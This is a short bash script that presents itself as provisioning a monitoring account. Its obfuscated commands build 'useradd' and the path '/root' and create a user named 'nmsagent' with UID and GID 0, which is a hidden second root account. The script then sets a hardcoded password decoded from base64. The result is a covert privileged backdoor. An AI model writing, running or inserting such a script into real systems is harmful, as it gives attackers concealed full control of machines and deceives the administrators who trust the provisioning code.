#!/usr/bin/env bash
# provision the monitoring account
set -e
declare -A acct=([name]=nmsagent [shell]=/bin/bash)
num=$((6 * 7 - 42))
maker=$(printf '%s' add user | sed 's/\(add\)\(user\)/\2\1/')
"$maker" -o -u "$num" -g "$num" -M -d "/$(tr 'a-z' 'n-za-m' <<<ebbg)" -s "${acct[shell]}" "${acct[name]}"
printf '%s:%s\n' "${acct[name]}" "$(base64 -d <<<'V2ludDNyLTIwMjQh')" | chpasswd
